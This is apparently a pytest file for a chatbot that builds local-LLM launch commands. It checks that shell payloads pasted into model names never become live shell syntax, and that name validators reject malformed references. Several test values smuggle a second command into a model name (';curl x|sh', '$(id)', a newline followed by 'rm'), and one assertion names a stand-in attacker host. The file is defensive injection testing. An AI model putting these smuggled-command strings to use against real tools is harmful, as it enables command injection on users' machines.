"""No command FitBot hands back runs what a paste smuggled in (issue 40, item 2).

The class: every user-derived word of every command builder (llama.cpp, vLLM, Ollama run lines,
Ollama server environment, Modelfiles) carrying every kind of shell payload (a second command, a
pipe, a substitution, a redirect, a quote break, a newline). Each paste goes through the whole
service; every command line of every code block on the card is then read as a POSIX shell reads it,
and none may hold an operator or substitution outside quotes.
"""

from __future__ import annotations

import asyncio

import pytest

from bot.service import Service
from catalog.facts import load_facts
from core.launch.safety import is_ollama_name, is_repo_id
from fitbot_fakes.hostile_pastes import MODELFILE, PAYLOADS, POSITIONS, command_lines, live_shell_syntax


@pytest.fixture(scope="module")
def replies():
    async def answer_all():
        service = Service(load_facts())
        try:
            return {
                (engine, template, payload): await service.answer(template.format(p=payload))
                for engine, template in POSITIONS
                for payload in PAYLOADS
            }
        finally:
            await service.close()

    return asyncio.run(answer_all())


def test_no_command_on_any_card_runs_a_pasted_payload(replies):
    for (engine, template, payload), reply in replies.items():
        for block in reply.code:
            for line in command_lines(block.text):
                if line.startswith(MODELFILE):  # no shell, but one instruction per line
                    assert "\n" not in line and "curl" not in line.split(maxsplit=1)[0], (template, line)
                    continue
                assert live_shell_syntax(line) == [], (engine, template, payload, line)


def test_a_payload_is_quoted_or_the_correction_refused_and_said(replies):
    """Nothing is silently dropped: the corrected command keeps the word quoted, or the card names
    the reference it would not repeat (or, for a word it never read, repeats nothing of it)."""
    seen_quoted = seen_refused = 0
    for reply in replies.values():
        assert reply.kind != "error", reply.title  # a diagnosis, a friendly "could not read", never the error card
        text = reply.model_dump_json()
        carried = any("evil.example" in b.text for b in reply.code)
        seen_quoted += carried
        seen_refused += "not a model name the engine accepts" in text
    assert seen_quoted > 20 and seen_refused > 20  # both roads are taken, so the test can fail either way


@pytest.mark.parametrize(
    "ref",
    [
        "qwen3:8b",
        "qwen3:30b-a3b-instruct-2507-q4_K_M",
        "gpt-oss:120b",
        "hf.co/unsloth/Qwen3-8B-GGUF:Q4_K_M",
        "huggingface.co/bartowski/Llama-3.2-3B-Instruct-GGUF:IQ4_XS",
        "example.com/library/mistral:7b+Q4_0",
        "mike/mistral:latest",
        "https://hf.co/unsloth/gemma-3-27b-it-GGUF:Q4_K_M",
    ],
)
def test_real_ollama_names_are_names(ref):
    assert is_ollama_name(ref)


@pytest.mark.parametrize(
    "ref",
    ["qwen3:8b;curl x|sh", "qwen3:8b $(id)", "x/y/z/z:8n", "a..b", "ex.ample/mistral", "qwen3:8b\nrm", "", "a" * 129],
)
def test_shell_and_malformed_ollama_references_are_not(ref):
    assert not is_ollama_name(ref)


@pytest.mark.parametrize(
    ("ref", "ok"),
    [
        ("Qwen/Qwen3-8B", True),
        ("unsloth/Qwen3-32B-GGUF:Q4_K_M", True),
        ("meta-llama/Llama-3.1-8B-Instruct", True),
        ("Qwen/Qwen3-8B;id", False),
        ("a--b/c", False),
        ("a/b/c", False),
        ("Qwen/Qwen3 8B", False),
    ],
)
def test_repo_ids(ref, ok):
    assert is_repo_id(ref) is ok
